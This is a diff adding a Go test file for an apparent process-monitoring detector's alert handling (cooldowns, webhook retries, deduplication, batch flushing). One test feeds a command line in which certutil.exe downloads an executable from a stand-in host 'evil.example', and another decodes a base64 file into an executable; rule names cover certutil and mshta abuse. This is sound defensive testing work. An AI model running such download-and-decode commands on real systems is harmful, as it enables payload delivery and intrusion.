@@ -0,0 +1,421 @@
+package main
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+// resetCooldowns clears the cooldown state for the rest of the test
+func resetCooldowns(t *testing.T) {
+	t.Helper()
+	reset := func() {
+		cooldownsMutex.Lock()
+		cooldowns = map[string]*cooldownEntry{}
+		cooldownsMutex.Unlock()
+	}
+	reset()
+	t.Cleanup(reset)
+}
+
+// resetAlerting gives the test fresh alert delivery state, so alerting can
+// be started and stopped again
+func resetAlerting(t *testing.T) {
+	t.Helper()
+	reset := func() {
+		alertQueue = make(chan Alert, alertQueueSize)
+		alertStop = make(chan struct{})
+		alertDone = make(chan struct{})
+		alertStopOnce = sync.Once{}
+	}
+	reset()
+	t.Cleanup(reset)
+}
+
+// drainAlerts empties the alert queue and returns what it held
+func drainAlerts() []Alert {
+	var alerts []Alert
+	for {
+		select {
+		case alert := <-alertQueue:
+			alerts = append(alerts, alert)
+		default:
+			return alerts
+		}
+	}
+}
+
+func TestCheckCooldown(t *testing.T) {
+	withConfig(t, func(c *Config) { c.Alerts.Cooldown = Duration(time.Hour) })
+	resetCooldowns(t)
+
+	first := ProcessEvent{Rule: "certutil.exe", Host: "WS01", Reason: "-urlcache"}
+	tests := []struct {
+		name  string
+		event ProcessEvent
+		fires bool
+	}{
+		{"first alert", first, true},
+		{"same rule and host", first, false},
+		{"same rule and host, other reason", ProcessEvent{Rule: "certutil.exe", Host: "WS01", Reason: "-decode"}, false},
+		{"other host", ProcessEvent{Rule: "certutil.exe", Host: "WS02", Reason: "-urlcache"}, true},
+		{"other rule", ProcessEvent{Rule: "mshta.exe", Host: "WS01", Reason: "-urlcache"}, true},
+		{"no rule, other image", ProcessEvent{ExecutablePath: `C:\Users\Public\a.exe`, Host: "WS01"}, true},
+		{"no rule, same image", ProcessEvent{ExecutablePath: `C:\Temp\A.EXE`, Host: "WS01"}, false},
+	}
+	for _, tt := range tests {
+		if _, fires := checkCooldown(tt.event); fires != tt.fires {
+			t.Errorf("%s: checkCooldown() fires = %v, want %v", tt.name, fires, tt.fires)
+		}
+	}
+	if got := cooldownSuppressed(); got != 3 {
+		t.Errorf("cooldownSuppressed() = %d, want 3", got)
+	}
+}
+
+// Different uses of one binary share the rule's cooldown, and the summary
+// reports them together
+func TestCheckCooldownAcrossReasons(t *testing.T) {
+	withConfig(t, func(c *Config) { c.Alerts.Cooldown = Duration(time.Minute) })
+	resetCooldowns(t)
+	drainAlerts()
+	t.Cleanup(func() { drainAlerts() })
+
+	download := evaluate(`C:\Windows\System32\certutil.exe`, "certutil.exe -urlcache -f http://evil.example/a.exe a.exe")
+	decode := evaluate(`C:\Windows\System32\certutil.exe`, "certutil.exe -decode a.b64 a.exe")
+	if download.Rule != decode.Rule || download.Reason == decode.Reason {
+		t.Fatalf("rules %q and %q, reasons %q and %q; want one rule, two reasons", download.Rule, decode.Rule, download.Reason, decode.Reason)
+	}
+
+	if _, fires := checkCooldown(download); !fires {
+		t.Fatal("the first alert was suppressed")
+	}
+	if _, fires := checkCooldown(decode); fires {
+		t.Error("an alert of the same rule for another reason fired during the cooldown")
+	}
+	flushCooldowns(time.Now().Add(time.Minute+cooldownFlushInterval), false)
+	alerts := drainAlerts()
+	if len(alerts) != 1 || alerts[0].Suppressed != 1 || alerts[0].Event.Reason != decode.Reason {
+		t.Errorf("summaries %+v, want one reporting the -decode alert", alerts)
+	}
+}
+
+func TestCheckCooldownDisabled(t *testing.T) {
+	withConfig(t, func(c *Config) { c.Alerts.Cooldown = 0 })
+	resetCooldowns(t)
+
+	event := ProcessEvent{Rule: "certutil.exe", Host: "WS01"}
+	for i := 0; i < 3; i++ {
+		if _, fires := checkCooldown(event); !fires {
+			t.Fatalf("alert %d suppressed with the cooldown disabled", i+1)
+		}
+	}
+}
+
+func TestCheckCooldownReportsSuppressed(t *testing.T) {
+	withConfig(t, func(c *Config) { c.Alerts.Cooldown = Duration(time.Hour) })
+	resetCooldowns(t)
+
+	event := ProcessEvent{Rule: "certutil.exe", Host: "WS01"}
+	checkCooldown(event)
+	checkCooldown(event)
+	checkCooldown(event)
+
+	// End the cooldown without sweeping it
+	cooldownsMutex.Lock()
+	cooldowns[cooldownKey(event)].until = time.Now().Add(-time.Second)
+	cooldownsMutex.Unlock()
+
+	suppressed, fires := checkCooldown(event)
+	if !fires || suppressed != 2 {
+		t.Errorf("checkCooldown() = %d, %v, want 2, true", suppressed, fires)
+	}
+}
+
+func TestFlushCooldowns(t *testing.T) {
+	withConfig(t, func(c *Config) { c.Alerts.Cooldown = Duration(time.Minute) })
+	resetCooldowns(t)
+	drainAlerts()
+	t.Cleanup(func() { drainAlerts() })
+
+	quiet := ProcessEvent{Rule: "mshta.exe", Host: "WS01"}
+	noisy := ProcessEvent{Rule: "certutil.exe", Host: "WS01"}
+	checkCooldown(quiet)
+	checkCooldown(noisy)
+	checkCooldown(noisy)
+	last := noisy
+	last.ProcessID = 7
+	checkCooldown(last)
+
+	// Still running, nothing is swept
+	flushCooldowns(time.Now(), false)
+	if alerts := drainAlerts(); len(alerts) != 0 {
+		t.Fatalf("%d alerts queued before the cooldowns ended", len(alerts))
+	}
+
+	flushCooldowns(time.Now().Add(time.Minute+cooldownFlushInterval), false)
+	alerts := drainAlerts()
+	if len(alerts) != 1 {
+		t.Fatalf("%d alerts queued, want a summary for the noisy rule only", len(alerts))
+	}
+	summary := alerts[0]
+	if !summary.Summary || summary.Suppressed != 2 || summary.Event.ProcessID != 7 {
+		t.Errorf("summary = %+v, want 2 suppressed ending with PID 7", summary)
+	}
+	cooldownsMutex.Lock()
+	remaining := len(cooldowns)
+	cooldownsMutex.Unlock()
+	if remaining != 0 {
+		t.Errorf("%d cooldowns left after they ended", remaining)
+	}
+}
+
+func TestFlushCooldownsAll(t *testing.T) {
+	withConfig(t, func(c *Config) { c.Alerts.Cooldown = Duration(time.Hour) })
+	resetCooldowns(t)
+	drainAlerts()
+	t.Cleanup(func() { drainAlerts() })
+
+	event := ProcessEvent{Rule: "certutil.exe", Host: "WS01"}
+	checkCooldown(event)
+	checkCooldown(event)
+
+	// Shutdown reports running cooldowns too
+	flushCooldowns(time.Now(), true)
+	if alerts := drainAlerts(); len(alerts) != 1 || alerts[0].Suppressed != 1 {
+		t.Errorf("alerts = %+v, want one summary of 1 suppressed", alerts)
+	}
+}
+
+// flakySink fails a number of sends before accepting them
+type flakySink struct {
+	failures int
+	attempts int
+}
+
+func (s *flakySink) Name() string { return "flaky" }
+
+func (s *flakySink) Send(Alert) error {
+	s.attempts++
+	if s.attempts <= s.failures {
+		return errors.New("unavailable")
+	}
+	return nil
+}
+
+func TestDeliverRetries(t *testing.T) {
+	saved := alertRetryBackoff
+	alertRetryBackoff = time.Millisecond
+	t.Cleanup(func() { alertRetryBackoff = saved })
+
+	tests := []struct {
+		name     string
+		failures int
+		attempts int
+	}{
+		{"first attempt", 0, 1},
+		{"recovers", alertMaxAttempts - 1, alertMaxAttempts},
+		{"gives up", alertMaxAttempts + 1, alertMaxAttempts},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			sink := &flakySink{failures: tt.failures}
+			deliver(sink, func() error { return sink.Send(Alert{}) })
+			if sink.attempts != tt.attempts {
+				t.Errorf("%d attempts, want %d", sink.attempts, tt.attempts)
+			}
+		})
+	}
+}
+
+func TestWebhookSinkRetry(t *testing.T) {
+	saved := alertRetryBackoff
+	alertRetryBackoff = time.Millisecond
+	t.Cleanup(func() { alertRetryBackoff = saved })
+
+	var requests atomic.Int32
+	var received Alert
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if requests.Add(1) == 1 {
+			w.WriteHeader(http.StatusInternalServerError)
+			return
+		}
+		if err := json.NewDecoder(r.Body).Decode(&received); err != nil {
+			t.Errorf("decoding the alert: %v", err)
+		}
+	}))
+	defer server.Close()
+
+	sink := NewWebhookSink(server.URL)
+	alert := Alert{Event: ProcessEvent{Rule: "certutil.exe", ProcessID: 4242}, Suppressed: 3}
+	deliver(sink, func() error { return sink.Send(alert) })
+
+	if got := requests.Load(); got != 2 {
+		t.Fatalf("%d requests, want the failed one and a retry", got)
+	}
+	if received.Event.Rule != "certutil.exe" || received.Suppressed != 3 {
+		t.Errorf("webhook received %+v", received)
+	}
+}
+
+// withDedup deduplicates alerts by user for the rest of the test, with the
+// fingerprints persisted to a temporary file
+func withDedup(t *testing.T) AlertDedupConfig {
+	t.Helper()
+	cfg := AlertDedupConfig{
+		Fingerprint: "{user}",
+		Window:      Duration(time.Hour),
+		StatePath:   filepath.Join(t.TempDir(), "dedup.json"),
+	}
+	d, err := openAlertDeduper(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	saved := alertDedup
+	alertDedup = d
+	t.Cleanup(func() { alertDedup = saved })
+	return cfg
+}
+
+func TestDedupKeepsOnlySentFingerprints(t *testing.T) {
+	withConfig(t, func(c *Config) {
+		c.Alerts.Cooldown = Duration(time.Hour)
+		c.Alerts.MinSeverity = SeverityLow
+		c.Alerts.MinConfidence = 0
+		c.Alerts.WarmUpMinSeverity = SeverityLow
+	})
+	resetCooldowns(t)
+	saved := alertSinks
+	alertSinks = []AlertSink{&flakySink{}}
+	t.Cleanup(func() { alertSinks = saved })
+	cfg := withDedup(t)
+	drainAlerts()
+	t.Cleanup(func() { drainAlerts() })
+
+	alice := ProcessEvent{Rule: "certutil.exe", Host: "WS01", User: `CORP\alice`, Severity: SeverityHigh}
+	bob := ProcessEvent{Rule: "certutil.exe", Host: "WS01", User: `CORP\bob`, Severity: SeverityHigh}
+	dispatchAlert(alice)
+	// Bob's alert is held back by the rule's cooldown, not sent
+	dispatchAlert(bob)
+	if alerts := drainAlerts(); len(alerts) != 1 || alerts[0].Event.User != alice.User {
+		t.Fatalf("alerts = %+v, want alice's only", alerts)
+	}
+
+	// Once the cooldown is over, bob's next alert is not a duplicate
+	resetCooldowns(t)
+	dispatchAlert(bob)
+	dispatchAlert(alice)
+	if alerts := drainAlerts(); len(alerts) != 1 || alerts[0].Event.User != bob.User {
+		t.Fatalf("alerts = %+v, want bob's only", alerts)
+	}
+
+	var persisted map[string]time.Time
+	if _, err := readStateFile(cfg.StatePath, &persisted); err != nil {
+		t.Fatal(err)
+	}
+	if len(persisted) != 2 {
+		t.Errorf("%d fingerprints persisted, want 2", len(persisted))
+	}
+}
+
+func TestDedupConcurrentCommits(t *testing.T) {
+	cfg := withDedup(t)
+	const users = 50
+	var wg sync.WaitGroup
+	for i := 0; i < users; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			if _, ok := alertDedup.reserve(ProcessEvent{User: fmt.Sprintf(`CORP\user%d`, i)}); ok {
+				alertDedup.commit()
+			}
+		}()
+	}
+	wg.Wait()
+
+	// The last save holds every fingerprint
+	var persisted map[string]time.Time
+	if _, err := readStateFile(cfg.StatePath, &persisted); err != nil {
+		t.Fatal(err)
+	}
+	if len(persisted) != users {
+		t.Errorf("%d fingerprints persisted, want %d", len(persisted), users)
+	}
+	reloaded, err := openAlertDeduper(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, ok := reloaded.reserve(ProcessEvent{User: `CORP\user7`}); ok {
+		t.Error("a persisted fingerprint did not suppress the alert after a restart")
+	}
+}
+
+func TestStopAlertingFlushesBatch(t *testing.T) {
+	var mu sync.Mutex
+	var batches [][]Alert
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var batch []Alert
+		if err := json.NewDecoder(r.Body).Decode(&batch); err != nil {
+			t.Errorf("decoding the batch: %v", err)
+		}
+		mu.Lock()
+		batches = append(batches, batch)
+		mu.Unlock()
+	}))
+	defer server.Close()
+	received := func() [][]Alert {
+		mu.Lock()
+		defer mu.Unlock()
+		return append([][]Alert(nil), batches...)
+	}
+
+	withConfig(t, func(c *Config) {
+		c.Alerts = AlertsConfig{WebhookURL: server.URL, WebhookBatch: BatchConfig{Size: 10, Interval: Duration(time.Hour)}}
+	})
+	resetAlerting(t)
+	saved := alertSinks
+	t.Cleanup(func() { alertSinks = saved })
+	startAlerting()
+
+	for pid := uint32(1); pid <= 3; pid++ {
+		queueAlert(Alert{Event: ProcessEvent{Rule: "certutil.exe", ProcessID: pid}})
+	}
+	// The worker takes the alerts into its pending batch, which neither
+	// fills up nor reaches its interval
+	for deadline := time.Now().Add(5 * time.Second); len(alertQueue) > 0; time.Sleep(time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("the worker did not take the queued alerts")
+		}
+	}
+	time.Sleep(50 * time.Millisecond)
+	if got := received(); len(got) != 0 {
+		t.Fatalf("%d batches posted before stopping", len(got))
+	}
+
+	start := time.Now()
+	stopAlerting()
+	if elapsed := time.Since(start); elapsed >= alertFlushTimeout {
+		t.Errorf("stopping took %v, at least alertFlushTimeout", elapsed)
+	}
+	select {
+	case <-alertDone:
+	default:
+		t.Error("the alert worker is still running after stopping")
+	}
+	got := received()
+	if len(got) != 1 || len(got[0]) != 3 {
+		t.Fatalf("batches %+v, want the 3 pending alerts in one", got)
+	}
+	for i, alert := range got[0] {
+		if alert.Event.ProcessID != uint32(i+1) {
+			t.Errorf("alert %d is for PID %d, want %d", i, alert.Event.ProcessID, i+1)
+		}
+	}
+}